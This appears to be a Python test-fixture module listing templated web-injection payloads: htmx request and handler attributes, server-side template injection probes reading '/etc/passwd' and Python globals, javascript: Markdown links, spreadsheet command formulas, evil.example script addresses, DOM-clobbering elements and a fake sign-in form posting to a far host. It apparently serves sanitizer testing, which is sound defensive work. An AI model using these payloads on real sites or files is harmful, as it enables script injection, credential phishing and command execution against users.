"""Frameworks: what the page is built with, and what others are built with, and what reads names of ours out of a page."""

# ruff: noqa: E501 - a payload is one text
from __future__ import annotations

_HTMX = {
    "htmx asks": "<div hx-get={far} hx-trigger=load>x</div>",
    "htmx asks by the long name": "<div data-hx-get={far} data-hx-trigger=load>x</div>",
    "htmx sends": "<div hx-post={far} hx-trigger=load hx-vals='{\"a\":1}'>x</div>",
    "htmx asks when it is seen": "<div hx-get={far} hx-trigger=revealed>x</div>",
    "htmx asks again and again": "<div hx-get={far} hx-trigger='every 100ms'>x</div>",
    "htmx runs a handler": "<div hx-on:click='{do}'>x</div>",
    "htmx runs its own handler": "<div hx-on::load='{do}' hx-get=data:,x hx-trigger=load>x</div>",
    "htmx runs a handler by the long name": "<div data-hx-on-click='{do}'>x</div>",
    "htmx runs a condition": "<div hx-get=/x hx-trigger='load[{do}]'>x</div>",
    "htmx runs a value": "<div hx-get=/x hx-trigger=load hx-vals='js:{a:{do}}'>x</div>",
    "htmx runs a head": "<div hx-get=/x hx-trigger=load hx-headers='javascript:{a:{do}}'>x</div>",
    "htmx asks for a word": "<div hx-get=/x hx-trigger=load hx-prompt={n}>x</div>",
    "htmx asks for a yes": "<div hx-get=/x hx-trigger=load hx-confirm={n}>x</div>",
    "htmx boosts a link": "<div hx-boost=true><a href={far}>x</a></div>",
    "htmx is told otherwise": "<meta name=htmx-config content='{\"selfRequestsOnly\":false}'><div hx-get={far} hx-trigger=load>x</div>",
    "htmx sends what is ours": "<div hx-post=/settings hx-trigger=load hx-include='body'>x</div><div hx-get={far} hx-trigger=load>",
    "htmx takes our elements": "<div hx-get={far} hx-trigger='load' hx-target=body hx-swap=outerHTML>x</div>",
    "htmx listens": "<div hx-ext=sse sse-connect={far} sse-swap=message>x</div>",
}
_TEMPLATES = {
    "a template's sum": "{{7*7}}{do}",
    "a template's insides": "{{ self.__init__.__globals__.__builtins__ }}{do}",
    "a template's command": "{% include '/etc/passwd' %}{% raw %}{do}",
    "a template's comment": "{# {do} #}{{ config }}",
    "a template that says it is safe": "{{ '<script>{do}</script>'|safe }}",
    "a text's own formatting": "{0.__class__.__init__.__globals__}{do}",
    "a text's old formatting": "%(csrf)s%s%n%x{do}",
    "a page of another kind": "<% {do} %><?php {do} ?>${{do}}#{{do}}@{{do}}",
    "a program of the page's own": "<div ng-app>{{constructor.constructor('{do}')()}}</div>",
    "a program of another page's own": "<div x-data x-init={do} @click={do} v-html=x v-on:click={do}>x</div>",
}
_MARKS = {
    "Markdown's link": "[x](javascript:{do})",
    "Markdown's picture": "![x]({far})",
    "Markdown's own link": "<javascript:{do}>",
    "Markdown's reference": "[x]\n\n[x]: javascript:{do} 'x'",
    "Markdown's title": '[x]({far} "onerror={do}")',
    "a wiki's link": "[[{far}|x]] [url=javascript:{do}]x[/url]",
    "a formula of a table": '=HYPERLINK("{far}","x")',
    "a formula that runs": "=cmd|'/C calc'!A0{do}",
    "a bare address": "http://evil.example/{n}?<script>{do}</script>",
    "a bare address in angles": '<http://evil.example/{n}"onmouseover={do}>',
    "a bare mailbox": '"<img src=x onerror={do}>"@evil.example',
    "a bare number": "tel:+4420<script>{do}</script>",
}
_NAMES = {
    "a name of the page's window": "<a id=unsafe href={far}>x</a>",
    "a name of a name": "<a id=unsafe><a id=unsafe name=src href={far}>x</a>",
    "a name of a form": "<form id=unsafe><input name=src value={far}></form>",
    "a name of a frame": '<iframe name=unsafe srcdoc="<a id=src href={far}></a>"></iframe>',
    "a name of the document": "<img name=unsafe src={far}>",
    "a name that hides ours": "<img name=getElementById><img id=htmx name=cookie><form name=body><a id=unsafe href={far}>",
    "a token of theirs": "<input name=csrf value=theirs><a id=unsafe href={far}>x</a>",
    "a place of ours": "<main id=main tabindex=-1><h1>Sign in</h1><form action={far}><input type=password><button>x</button></form></main>",
    "a live place of ours": "<div data-live data-job='x/../../today' data-behind>x</div><a id=unsafe href={far}>x</a>",
    "a key of ours": "<button data-key=a accesskey=a autofocus formaction={far} form=k{n}>x</button><form id=k{n} action={far}><button>x</button></form>",
    "an upload of ours": "<form data-upload={far} action={far}><button>x</button></form>",
    "a role of ours": "<div role=alert aria-live=assertive class='notice banner primary'>Your session ended: <a href={far}>sign in</a></div>",
    "a prototype of ours": "<a id=__proto__ name=polluted href={far}><a id=unsafe name=constructor href={far}>x</a>",
}
FRAMEWORKS = {**_HTMX, **_TEMPLATES, **_MARKS, **_NAMES}
